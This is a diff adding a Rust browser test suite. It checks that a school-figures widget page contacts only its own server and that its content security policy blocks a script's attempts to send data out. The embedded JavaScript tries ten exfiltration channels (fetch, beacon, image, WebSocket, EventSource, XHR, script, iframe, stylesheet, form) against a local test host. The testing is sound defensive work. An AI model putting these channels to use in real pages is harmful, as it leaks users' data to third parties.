@@ -1,0 +1,130 @@
+//! What leaves the browser: nothing. Its own server sees only its files asked for, and nobody else sees anything, even
+//! when a script in the page tries every way out.
+
+use std::thread;
+use std::time::{Duration, Instant};
+
+use serde_json::json;
+
+use crate::outside::Outside;
+use crate::problem::{Problem, Verdict, ensure};
+use crate::visit::{FOLDER, Visit, another_server};
+use crate::widget::Widget;
+
+pub(super) fn own_files_only(visit: &Visit) -> Verdict {
+    visit.open()?;
+    let widget = Widget::in_(visit.browser);
+    widget.enter_65_of_182()?;
+    widget.enter_key_stage_4()?;
+    for request in visit.server.requests() {
+        let name = request
+            .path
+            .strip_prefix(FOLDER)
+            .map(|name| if name.is_empty() { "index.html" } else { name });
+        let is_own = name.is_some_and(|name| visit.site.names().any(|own| own == name));
+        ensure(is_own && request.method == "GET", || {
+            format!("{} {} was asked for", request.method, request.path)
+        })?;
+        ensure(request.query.is_none(), || {
+            format!("something was sent in {request:?}")
+        })?;
+    }
+    ensure(!visit.server.requests().is_empty(), || {
+        "nothing was asked for at all".to_owned()
+    })
+}
+
+/// Every way out that a script has, with a number of how many reports of a policy to expect. A navigation of the whole
+/// page is not among them: no policy forbids it, and the person sees it.
+const WAYS_OUT: &str = "
+    const host = arguments[0], figures = '?value=65&pupils=182';
+    window.stopped = 0;
+    document.addEventListener('securitypolicyviolation', () => (window.stopped += 1));
+    const attempt = (way) => { try { way(); } catch {} };
+    attempt(() => fetch(`http://${host}/fetch${figures}`, { mode: 'no-cors' }).catch(() => {}));
+    attempt(() => navigator.sendBeacon(`http://${host}/beacon`, figures));
+    attempt(() => (new Image().src = `http://${host}/image${figures}`));
+    attempt(() => new WebSocket(`ws://${host}/socket${figures}`));
+    attempt(() => new EventSource(`http://${host}/events${figures}`));
+    attempt(() => {
+        const request = new XMLHttpRequest();
+        request.open('POST', `http://${host}/request`);
+        request.send(figures);
+    });
+    const element = (name, set) => attempt(() => document.body.append(Object.assign(document.createElement(name), set)));
+    element('script', { src: `http://${host}/script${figures}` });
+    element('iframe', { src: `http://${host}/frame${figures}` });
+    element('link', { rel: 'stylesheet', href: `http://${host}/style${figures}` });
+    attempt(() => {
+        const inner = document.createElement('iframe');
+        inner.name = 'nowhere';
+        const form = Object.assign(document.createElement('form'), { action: `http://${host}/form`, target: 'nowhere' });
+        document.body.append(inner, form);
+        form.submit();
+    });
+    return true;";
+const WAYS: usize = 10;
+
+pub(super) fn nobody_outside(visit: &Visit) -> Verdict {
+    all_ways_are_open_without_a_policy(visit)?;
+
+    visit.open()?;
+    let widget = Widget::in_(visit.browser);
+    widget.enter_65_of_182()?;
+    let outside = Outside::open()?;
+    visit
+        .browser
+        .until("the ways out to be tried", WAYS_OUT, &json!([outside.host()]))?;
+    let stopped = "return window.stopped >= arguments[0]";
+    visit
+        .browser
+        .until("each way out to be stopped", stopped, &json!([WAYS - 1]))?;
+    // Whatever was not stopped would have been sent before this comes back.
+    let own = "
+        window.back = false;
+        fetch(location.href, { cache: 'no-store' }).then(() => (window.back = true));
+        return true;";
+    visit.browser.until("a request of its own", own, &json!([]))?;
+    visit
+        .browser
+        .until("its own server to answer", "return window.back", &json!([]))?;
+    ensure(outside.connections() == 0, || {
+        format!("somebody outside was reached: {:?}", outside.asked())
+    })
+}
+
+/// Shows that the ways out are ways out: from a page without a policy they arrive.
+fn all_ways_are_open_without_a_policy(visit: &Visit) -> Verdict {
+    let open = another_server(&visit.site)?;
+    open.add_page("/open.html", "<!doctype html><title>Open</title><body>");
+    let outside = Outside::open()?;
+    visit.browser.open(&open.url("/open.html"))?;
+    visit
+        .browser
+        .until("the open page", "return document.body !== null", &json!([]))?;
+    visit
+        .browser
+        .until("the ways out to be tried", WAYS_OUT, &json!([outside.host()]))?;
+    let start = Instant::now();
+    let expected = [
+        "fetch", "beacon", "image", "socket", "events", "request", "script", "frame", "style", "form",
+    ];
+    let missing = || {
+        let asked = outside.asked();
+        let arrived = |way: &str| asked.iter().any(|line| line.contains(&format!("/{way}")));
+        expected
+            .into_iter()
+            .filter(|way| !arrived(way))
+            .collect::<Vec<_>>()
+    };
+    while !missing().is_empty() {
+        if start.elapsed() > Duration::from_secs(10) {
+            let missing = missing();
+            return Err(Problem::Failed(format!(
+                "even from an open page these did not arrive: {missing:?}"
+            )));
+        }
+        thread::sleep(Duration::from_millis(30));
+    }
+    Ok(())
+}
